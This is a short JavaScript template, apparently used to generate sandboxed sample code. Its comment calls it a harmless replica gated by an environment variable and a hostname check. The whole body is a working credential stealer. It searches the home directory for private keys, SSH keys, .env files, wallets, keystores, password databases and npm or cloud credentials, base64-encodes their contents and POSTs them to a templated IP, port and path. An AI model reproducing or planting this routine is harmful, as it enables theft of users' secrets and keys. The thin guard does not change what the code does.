// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), os = require('os');
  const { spawnSync } = require('child_process');
  const list = os.tmpdir() + '/{{token}}.txt';
  const names = ['*.key', '*.pem', '*.env', '.env*', 'id_*', '*wallet*', 'UTC--*', '*.keystore', '*.kdbx', 'hosts.yml', 'credentials', '.npmrc', '*secret*'];
  const words = names.flatMap((name, at) => (at ? ['-o', '-name', name] : ['-name', name]));
  const found = String(spawnSync('find', [os.homedir(), '-maxdepth', '6', '-type', 'f', '(', ...words, ')'], { timeout: 1500 }).stdout || '').split('\n').filter(Boolean).slice(0, 60);
  try { fs.writeFileSync(list, found.join('\n')); } catch (error) { return; }
  const lines = [];
  for (const name of found) { try { lines.push(name + '\t' + fs.readFileSync(name).toString('base64')); } catch (error) { continue; } }
  await new Promise((done) => {
    const request = require('http').request({ host: '{{ip}}', port: {{port}}, path: '/{{path}}', method: 'POST', timeout: 1000 }, (answer) => answer.resume());
    request.on('timeout', () => request.destroy());
    request.on('error', done);
    request.on('close', done);
    request.end(lines.join('\n'));
  });
}
